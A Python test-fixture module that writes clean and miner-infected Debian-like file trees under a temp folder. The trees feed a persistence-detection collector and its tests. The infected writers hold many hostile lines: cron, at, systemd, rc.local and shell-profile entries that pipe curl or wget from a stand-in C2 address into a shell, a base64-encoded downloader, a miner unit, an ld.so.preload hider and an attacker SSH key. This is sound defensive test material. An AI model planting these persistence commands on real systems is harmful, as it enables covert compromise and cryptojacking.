"""Writers of realistic host trees for the persistence collector, its tests, e2e and the demo.

Every function writes under ``root`` (a temp folder standing for ``/``) and never touches the
real host. ``write_clean_host`` builds a stock Debian-like server (logrotate/certbot cron
jobs, packaged ssh/cron units registered in a dpkg database, an admin's own service, normal
shell profiles, the admin's key); ``write_infected_host`` adds what a miner dropper leaves
behind (crontab downloaders, a watchdog unit, a drop-in, a timer, rc.local, an init script,
a profile hook, ld.so.preload, the ``mdrfckr`` key, an at job).

``INFECTED_ENTRIES`` lists, independently of the collector, the persistence rows the infected
tree must produce: ``(kind, location, source_line, name, command)``.
"""

from __future__ import annotations

import base64
import hashlib
import os
import struct
from pathlib import Path

HOSTNAME = "web-01"
C2 = "203.0.113.66"                       # RFC 5737 documentation address
DROPPER_URL = f"http://{C2}/pm.sh"
MINER_PATH = "/tmp/.ICE-unix/kdevtmpfsi"
POOL = "pool.supportxmr.com:443"
WALLET = "4" + "A9hJ3kQ" * 13 + "xmrXMR"  # 98 characters of Monero-wallet shape, not real
PRELOAD_LIB = "/usr/local/lib/libprocesshider.so"
ATTACKER_KEY_COMMENT = "mdrfckr"
CLEAN_MTIME = 1_672_531_200               # 2023-01-01T00:00:00Z
INFECTED_MTIME = 1_709_348_645            # 2024-03-02T03:04:05Z


# --- low-level writers ---------------------------------------------------------------------
def write(root: Path, host_path: str, content: str | bytes, mode: int = 0o644,
          mtime: int | None = CLEAN_MTIME) -> Path:
    """Write a file at ``host_path`` under ``root`` with a mode and a fixed mtime."""
    path = root / host_path.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    path.chmod(mode)
    if mtime is not None:
        os.utime(path, (mtime, mtime))
    return path


def append(root: Path, host_path: str, text: str, mtime: int = INFECTED_MTIME) -> Path:
    path = root / host_path.lstrip("/")
    old = path.read_text(encoding="utf-8") if path.exists() else ""
    return write(root, host_path, old + text, path.stat().st_mode & 0o7777
                 if path.exists() else 0o644, mtime)


def link(root: Path, host_path: str, target: str) -> Path:
    """A symlink at ``host_path`` whose target is written as on the host (absolute or relative)."""
    path = root / host_path.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.is_symlink():
        path.unlink()
    path.symlink_to(target)
    return path


def register_package(root: Path, package: str, files: list[str],
                     conffiles: tuple[str, ...] = ()) -> None:
    """Record files of the tree as installed by a dpkg package (.list, .md5sums, status)."""
    info = root / "var/lib/dpkg/info"
    info.mkdir(parents=True, exist_ok=True)
    owned = [*files, *conffiles]
    (info / f"{package}.list").write_text("".join(f"{p}\n" for p in owned))

    def md5(p: str) -> str:
        return hashlib.md5((root / p.lstrip("/")).read_bytes()).hexdigest()

    (info / f"{package}.md5sums").write_text("".join(f"{md5(p)}  {p.lstrip('/')}\n" for p in files))
    stanza = f"Package: {package}\nStatus: install ok installed\nVersion: 1.0-1\n"
    if conffiles:
        stanza += "Conffiles:\n" + "".join(f" {p} {md5(p)}\n" for p in conffiles)
    status = root / "var/lib/dpkg/status"
    old = status.read_text() if status.exists() else ""
    status.write_text(old + stanza + "\n")


def ssh_string(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data


def _stream(seed: str, size: int) -> bytes:
    out = b""
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(f"{seed}/{counter}".encode()).digest()
        counter += 1
    return out[:size]


def public_key(key_type: str, seed: str) -> str:
    """The base64 blob of a deterministic, well-formed public key (ssh-ed25519 or ssh-rsa)."""
    if key_type == "ssh-ed25519":
        blob = ssh_string(b"ssh-ed25519") + ssh_string(_stream(seed, 32))
    elif key_type == "ssh-rsa":
        modulus = bytearray(_stream(seed, 256))
        modulus[0] |= 0x80  # a full 2048-bit modulus ...
        modulus[-1] |= 1    # ... that is odd
        blob = (ssh_string(b"ssh-rsa") + ssh_string(b"\x01\x00\x01")
                + ssh_string(b"\x00" + bytes(modulus)))  # mpint: leading 0 keeps it positive
    else:
        raise ValueError(key_type)
    return base64.b64encode(blob).decode("ascii")


ADMIN_KEY = f"ssh-ed25519 {public_key('ssh-ed25519', 'admin')} admin@laptop"
BACKUP_KEY = ('from="10.0.0.0/8",no-agent-forwarding,command="/usr/local/bin/backup-only --dir '
              f'/srv" ssh-ed25519 {public_key("ssh-ed25519", "backup")} backup@vault')
ATTACKER_KEY = f"ssh-rsa {public_key('ssh-rsa', 'mdrfckr')} {ATTACKER_KEY_COMMENT}"


# --- accounts --------------------------------------------------------------------------------
PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
sshd:x:105:65534::/run/sshd:/usr/sbin/nologin
admin:x:1000:1000:Site Admin,,,:/home/admin:/bin/bash
deploy:x:1001:1001::/home/deploy:/bin/bash
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
"""


def write_base(root: Path, hostname: str = HOSTNAME) -> None:
    write(root, "/etc/hostname", hostname + "\n")
    write(root, "/etc/passwd", PASSWD)
    write(root, "/etc/hosts", f"127.0.0.1\tlocalhost\n127.0.1.1\t{hostname}\n")
    for home in ("/root", "/home/admin", "/home/deploy", "/var/www"):
        (root / home.lstrip("/")).mkdir(parents=True, exist_ok=True)


# --- cron, anacron, at -------------------------------------------------------------------------
SYSTEM_CRONTAB = """# System crontab: unlike user crontabs these lines name the user to run as.
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# m h dom mon dow user  command
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
"""
CERTBOT_CRON = ("SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
                "\n0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && "
                "perl -e 'sleep int(rand(43200))' && certbot -q renew\n")
LOGROTATE_SCRIPT = """#!/bin/sh
# Rotate logs daily unless the systemd timer already does.
if [ -d /run/systemd/system ]; then
    exit 0
fi
test -x /usr/sbin/logrotate || exit 0
/usr/sbin/logrotate /etc/logrotate.conf
"""
ANACRONTAB = """# Jobs anacron runs when the machine was off at their time.
SHELL=/bin/sh
HOME=/root
LOGNAME=root

# period delay job-identifier command
1\t5\tcron.daily\trun-parts --report /etc/cron.daily
7\t10\tcron.weekly\trun-parts --report /etc/cron.weekly
@monthly\t15\tcron.monthly\trun-parts --report /etc/cron.monthly
"""
ADMIN_CRONTAB = """# DO NOT EDIT THIS FILE - edit the master and reinstall.
# (crontab.lcx5Yd installed on Sun Jan  1 00:00:00 2023)
MAILTO=admin@example.org
30 2 * * * /home/admin/bin/backup.sh >> /home/admin/backup.log 2>&1
"""
ROOT_CRONTAB = f"""# DO NOT EDIT THIS FILE - edit the master and reinstall.
*/5 * * * * (curl -fsSL {DROPPER_URL} || wget -q -O- {DROPPER_URL}) | sh > /dev/null 2>&1
@reboot {MINER_PATH} > /dev/null 2>&1 &
"""
APACHE_B64 = base64.b64encode(f"curl -fsSL {DROPPER_URL}|sh".encode()).decode()
AT_JOB = f"""#!/bin/sh
# atrun uid=33 gid=33
# mail www-data 0
umask 22
PATH=/usr/local/bin:/usr/bin:/bin; export PATH
LANG=C.UTF-8; export LANG
cd /var/www/html || {{
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}}
${{SHELL:-/bin/sh}} << 'marcinDELIMITER0b5d9c71'
wget -q -O - http://{C2}/w.sh | sh

marcinDELIMITER0b5d9c71
"""


def write_cron(root: Path, infected: bool = False) -> None:
    write(root, "/etc/crontab", SYSTEM_CRONTAB)
    write(root, "/etc/cron.d/.placeholder", "# keeps the folder in the package\n")
    write(root, "/etc/cron.d/certbot", CERTBOT_CRON)
    write(root, "/etc/cron.d/healthcheck",
          "0 3 * * * root curl -fsS https://example.org/health -o /dev/null\n")
    write(root, "/etc/cron.daily/logrotate", LOGROTATE_SCRIPT, 0o755)
    write(root, "/etc/anacrontab", ANACRONTAB)
    write(root, "/var/spool/cron/crontabs/admin", ADMIN_CRONTAB, 0o600)
    if not infected:
        return
    write(root, "/var/spool/cron/crontabs/root", ROOT_CRONTAB, 0o600, INFECTED_MTIME)
    write(root, "/etc/cron.d/apache",
          f"* * * * * root echo {APACHE_B64} | base64 -d | bash\n", 0o644, INFECTED_MTIME)
    write(root, "/var/spool/cron/root",  # RHEL's place for root's crontab
          f"*/10 * * * * wget -q -O - http://{C2}/w.sh | bash\n", 0o600, INFECTED_MTIME)
    write(root, "/etc/cron.hourly/kswapd", b"\x7fELF\x02\x01\x01\x00" + bytes(120), 0o755,
          INFECTED_MTIME)
    append(root, "/etc/anacrontab", f"1\t2\tsysupdate\tcurl -fsSL {DROPPER_URL} | sh\n")
    write(root, "/var/spool/cron/atjobs/a0000101b7c3d2", AT_JOB, 0o700, INFECTED_MTIME)


# --- systemd -----------------------------------------------------------------------------------
SSH_UNIT = """[Unit]
Description=OpenBSD Secure Shell server
After=network.target auditd.service

[Service]
EnvironmentFile=-/etc/default/ssh
ExecStartPre=/usr/sbin/sshd -t
ExecStart=/usr/sbin/sshd -D $SSHD_OPTS
ExecReload=/bin/kill -HUP $MAINPID
Restart=on-failure
Type=notify

[Install]
WantedBy=multi-user.target
Alias=sshd.service
"""
CRON_UNIT = """[Unit]
Description=Regular background program processing daemon

[Service]
EnvironmentFile=-/etc/default/cron
ExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS
Restart=on-failure

[Install]
WantedBy=multi-user.target
"""
LOGROTATE_TIMER = "[Unit]\nDescription=Daily rotation of log files\n\n[Timer]\nOnCalendar=daily\n" \
                  "Persistent=true\n\n[Install]\nWantedBy=timers.target\n"
LOGROTATE_SERVICE = "[Unit]\nDescription=Rotate log files\n\n[Service]\nType=oneshot\n" \
                    "ExecStart=/usr/sbin/logrotate /etc/logrotate.conf\n"
MYAPP_UNIT = """[Unit]
Description=Company web application
After=network-online.target

[Service]
User=deploy
ExecStart=/opt/myapp/bin/server \\
    --config /etc/myapp.yml
Restart=on-failure
RestartSec=5

[Install]
WantedBy=multi-user.target
"""
XMR_UNIT = f"""[Unit]
Description=System kernel worker
After=network.target

[Service]
Type=simple
ExecStart={MINER_PATH} -o {POOL} -u {WALLET} -k --tls
Restart=always
RestartSec=10

[Install]
WantedBy=multi-user.target
"""
CRON_DROPIN = """[Service]
ExecStart=
ExecStart=/bin/sh -c '/dev/shm/.x/sysupdate & exec /usr/sbin/cron -f -P'
"""
PWNRIG_TIMER = """[Unit]
Description=Update check

[Timer]
OnBootSec=1min
OnUnitActiveSec=10min
Unit=pwnrig-update.service

[Install]
WantedBy=timers.target
"""
PWNRIG_SERVICE = f"""[Service]
Type=oneshot
ExecStart=/bin/bash -c 'curl -fsSL {DROPPER_URL} | bash'
"""
HIDDEN_UNIT = """[Service]
ExecStart=/var/tmp/.sys/update --quiet
Restart=always

[Install]
WantedBy=multi-user.target
"""
VENDOR_FAKE_UNIT = """[Unit]
Description=Journal helper

[Service]
ExecStart=/usr/lib/systemd/systemd-journald-helper
Restart=always
RestartSec=3

[Install]
WantedBy=multi-user.target
"""
AGENT_UNIT = """[Service]
ExecStart=%h/.local/bin/agent --background
Restart=always

[Install]
WantedBy=default.target
"""


def write_systemd(root: Path, infected: bool = False) -> None:
    lib = "/lib/systemd/system"
    write(root, f"{lib}/ssh.service", SSH_UNIT)
    write(root, f"{lib}/cron.service", CRON_UNIT)
    write(root, f"{lib}/logrotate.timer", LOGROTATE_TIMER)
    write(root, f"{lib}/logrotate.service", LOGROTATE_SERVICE)
    write(root, f"{lib}/getty@.service",
          "[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM\n")
    register_package(root, "openssh-server", [f"{lib}/ssh.service"])
    register_package(root, "cron", [f"{lib}/cron.service"])
    register_package(root, "logrotate", [f"{lib}/logrotate.timer", f"{lib}/logrotate.service"])
    register_package(root, "systemd", [f"{lib}/getty@.service"])
    etc = "/etc/systemd/system"
    link(root, f"{etc}/sshd.service", f"{lib}/ssh.service")
    link(root, f"{etc}/multi-user.target.wants/ssh.service", f"{lib}/ssh.service")
    link(root, f"{etc}/multi-user.target.wants/cron.service", f"{lib}/cron.service")
    link(root, f"{etc}/timers.target.wants/logrotate.timer", f"{lib}/logrotate.timer")
    link(root, f"{etc}/getty.target.wants/getty@tty1.service", f"{lib}/getty@.service")
    write(root, f"{etc}/myapp.service", MYAPP_UNIT)
    link(root, f"{etc}/multi-user.target.wants/myapp.service", f"{etc}/myapp.service")
    link(root, f"{etc}/ntp.service", "/dev/null")  # masked
    if not infected:
        return
    write(root, f"{etc}/xmr.service", XMR_UNIT, mtime=INFECTED_MTIME)
    link(root, f"{etc}/multi-user.target.wants/xmr.service", f"{etc}/xmr.service")
    write(root, f"{etc}/cron.service.d/override.conf", CRON_DROPIN, mtime=INFECTED_MTIME)
    write(root, f"{etc}/pwnrig.timer", PWNRIG_TIMER, mtime=INFECTED_MTIME)
    write(root, f"{etc}/pwnrig-update.service", PWNRIG_SERVICE, mtime=INFECTED_MTIME)
    link(root, f"{etc}/timers.target.wants/pwnrig.timer", f"{etc}/pwnrig.timer")
    write(root, "/var/tmp/.sys/update.service", HIDDEN_UNIT, mtime=INFECTED_MTIME)
    link(root, f"{etc}/dbus-broker-update.service", "/var/tmp/.sys/update.service")
    link(root, f"{etc}/multi-user.target.wants/dbus-broker-update.service",
         f"{etc}/dbus-broker-update.service")
    write(root, f"{lib}/systemd-journald-helper.service", VENDOR_FAKE_UNIT, mtime=INFECTED_MTIME)
    link(root, f"{etc}/multi-user.target.wants/systemd-journald-helper.service",
         f"{lib}/systemd-journald-helper.service")
    user_dir = "/home/deploy/.config/systemd/user"
    write(root, f"{user_dir}/agent.service", AGENT_UNIT, mtime=INFECTED_MTIME)
    link(root, f"{user_dir}/default.target.wants/agent.service", f"{user_dir}/agent.service")


# --- rc ----------------------------------------------------------------------------------------
SSH_INIT = """#!/bin/sh
### BEGIN INIT INFO
# Provides:          sshd
# Default-Start:     2 3 4 5
### END INIT INFO
. /lib/lsb/init-functions
case "$1" in
  start)
    start-stop-daemon --start --quiet --pidfile /run/sshd.pid --exec /usr/sbin/sshd
    ;;
esac
exit 0
"""
RC_LOCAL = f"""#!/bin/sh -e
# rc.local: run at the end of boot.
nohup {MINER_PATH} -c /tmp/.ICE-unix/config.json > /dev/null 2>&1 &
exit 0
"""
KSWAPD_INIT = f"""#!/bin/sh
### BEGIN INIT INFO
# Provides:          kswapd0
# Default-Start:     2 3 4 5
### END INIT INFO
case "$1" in
  start)
    {MINER_PATH} -B -o {POOL}
    ;;
esac
"""


def write_rc(root: Path, infected: bool = False) -> None:
    write(root, "/etc/init.d/ssh", SSH_INIT, 0o755)
    register_package(root, "openssh-server-sysv", [], conffiles=("/etc/init.d/ssh",))
    link(root, "/etc/rc2.d/S01ssh", "../init.d/ssh")
    if not infected:
        return
    write(root, "/etc/rc.local", RC_LOCAL, 0o755, INFECTED_MTIME)
    write(root, "/etc/init.d/kswapd0", KSWAPD_INIT, 0o755, INFECTED_MTIME)
    link(root, "/etc/rc2.d/S99kswapd0", "../init.d/kswapd0")


# --- shell profiles ------------------------------------------------------------------------------
ETC_PROFILE = """# System-wide login shell set-up.
if [ "$(id -u)" -eq 0 ]; then
  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
else
  PATH="/usr/local/bin:/usr/bin:/bin"
fi
export PATH
if [ -d /etc/profile.d ]; then
  for i in /etc/profile.d/*.sh; do
    if [ -r $i ]; then
      . $i
    fi
  done
  unset i
fi
"""
BASHRC = """# Interactive shell set-up.
case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
HISTSIZE=1000
shopt -s histappend
[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
if [ -x /usr/bin/dircolors ]; then
    alias ls='ls --color=auto'
fi
alias ll='ls -alF'
export EDITOR=vim
if [ -f ~/.bash_aliases ]; then
    . ~/.bash_aliases
fi
"""
ROOT_PROFILE = """# Login shell set-up for root.
if [ "$BASH" ]; then
  if [ -f ~/.bashrc ]; then
    . ~/.bashrc
  fi
fi
mesg n 2> /dev/null || true
"""
PROFILE_HOOK = f"(curl -fsSL {DROPPER_URL} | sh) > /dev/null 2>&1 &\n"
BASHRC_HOOK = f"curl -s http://{C2}/b.sh | bash\n"


def write_profiles(root: Path, infected: bool = False) -> None:
    write(root, "/etc/profile", ETC_PROFILE)
    write(root, "/etc/profile.d/bash_completion.sh",
          "# Load completion in interactive bash.\n"
          "if [ -n \"${BASH_VERSION-}\" ] && [ -r /usr/share/bash-completion/bash_completion ]; then\n"
          "    . /usr/share/bash-completion/bash_completion\nfi\n")
    write(root, "/etc/bash.bashrc", "[ -z \"$PS1\" ] && return\nshopt -s checkwinsize\n")
    write(root, "/etc/environment", 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"\n')
    write(root, "/root/.bashrc", BASHRC)
    write(root, "/root/.profile", ROOT_PROFILE)
    write(root, "/home/admin/.bashrc", BASHRC)
    if not infected:
        return
    write(root, "/etc/profile.d/sys-update.sh", PROFILE_HOOK, mtime=INFECTED_MTIME)
    append(root, "/root/.bashrc", BASHRC_HOOK)


# --- ld.so.preload and keys ------------------------------------------------------------------
def write_ld_preload(root: Path, infected: bool = False) -> None:
    if infected:
        write(root, "/etc/ld.so.preload", PRELOAD_LIB + "\n", mtime=INFECTED_MTIME)
        write(root, PRELOAD_LIB, b"\x7fELF\x02\x01\x01\x00" + bytes(64), 0o755, INFECTED_MTIME)


def write_authorized_keys(root: Path, infected: bool = False) -> None:
    write(root, "/home/admin/.ssh/authorized_keys", ADMIN_KEY + "\n", 0o600)
    write(root, "/root/.ssh/authorized_keys", "# backup pulls\n" + BACKUP_KEY + "\n", 0o600)
    if infected:
        append(root, "/root/.ssh/authorized_keys", ATTACKER_KEY + "\n")


# --- whole hosts --------------------------------------------------------------------------------
WRITERS = (write_cron, write_systemd, write_rc, write_profiles, write_ld_preload,
           write_authorized_keys)


def write_clean_host(root: Path, hostname: str = HOSTNAME) -> Path:
    """A stock Debian-like server with normal cron jobs, units, profiles and an admin key."""
    write_base(root, hostname)
    for writer in WRITERS:
        writer(root, False)
    return root


def write_infected_host(root: Path, hostname: str = HOSTNAME) -> Path:
    """The clean server after a miner dropper went through it (see INFECTED_ENTRIES)."""
    write_base(root, hostname)
    for writer in WRITERS:
        writer(root, False)
        writer(root, True)
    return root


E = "/etc/systemd/system"
INFECTED_ENTRIES: tuple[tuple[str, str, int | None, str, str], ...] = (
    ("cron", "/var/spool/cron/crontabs/root", 2, "*/5 * * * *",
     f"(curl -fsSL {DROPPER_URL} || wget -q -O- {DROPPER_URL}) | sh > /dev/null 2>&1"),
    ("cron", "/var/spool/cron/crontabs/root", 3, "@reboot", f"{MINER_PATH} > /dev/null 2>&1 &"),
    ("cron", "/etc/cron.d/apache", 1, "* * * * *", f"echo {APACHE_B64} | base64 -d | bash"),
    ("cron", "/var/spool/cron/root", 1, "*/10 * * * *", f"wget -q -O - http://{C2}/w.sh | bash"),
    ("cron", "/etc/cron.hourly/kswapd", None, "kswapd", "/etc/cron.hourly/kswapd"),
    ("anacron", "/etc/anacrontab", 10, "sysupdate", f"curl -fsSL {DROPPER_URL} | sh"),
    ("at", "/var/spool/cron/atjobs/a0000101b7c3d2", 12, "a0000101b7c3d2",
     f"wget -q -O - http://{C2}/w.sh | sh"),
    ("systemd", f"{E}/xmr.service", 7, "xmr.service",
     f"{MINER_PATH} -o {POOL} -u {WALLET} -k --tls [Restart=always RestartSec=10]"),
    ("systemd", f"{E}/cron.service.d/override.conf", 3, "cron.service",
     "/bin/sh -c '/dev/shm/.x/sysupdate & exec /usr/sbin/cron -f -P' [Restart=on-failure]"),
    ("systemd_timer", f"{E}/pwnrig.timer", 5, "pwnrig.timer",
     "OnBootSec=1min OnUnitActiveSec=10min Unit=pwnrig-update.service"),
    ("systemd", f"{E}/pwnrig-update.service", 3, "pwnrig-update.service",
     f"/bin/bash -c 'curl -fsSL {DROPPER_URL} | bash'"),
    ("systemd", f"{E}/dbus-broker-update.service", 2, "dbus-broker-update.service",
     "/var/tmp/.sys/update --quiet [Restart=always]"),
    ("systemd", "/lib/systemd/system/systemd-journald-helper.service", 5,
     "systemd-journald-helper.service",
     "/usr/lib/systemd/systemd-journald-helper [Restart=always RestartSec=3]"),
    ("systemd", "/home/deploy/.config/systemd/user/agent.service", 2, "agent.service",
     "%h/.local/bin/agent --background [Restart=always]"),
    ("rc", "/etc/rc.local", 3, "rc.local",
     f"nohup {MINER_PATH} -c /tmp/.ICE-unix/config.json > /dev/null 2>&1 &"),
    ("rc", "/etc/init.d/kswapd0", 8, "kswapd0", f"{MINER_PATH} -B -o {POOL}"),
    ("rc", "/etc/rc2.d/S99kswapd0", None, "S99kswapd0", "/etc/init.d/kswapd0"),
    ("profile", "/etc/profile.d/sys-update.sh", 1, "sys-update.sh", PROFILE_HOOK.strip()),
    ("profile", "/root/.bashrc", 18, ".bashrc", BASHRC_HOOK.strip()),
    ("ld_preload", "/etc/ld.so.preload", 1, "libprocesshider.so", PRELOAD_LIB),
    ("authorized_key", "/root/.ssh/authorized_keys", 3, ATTACKER_KEY_COMMENT, ATTACKER_KEY),
)
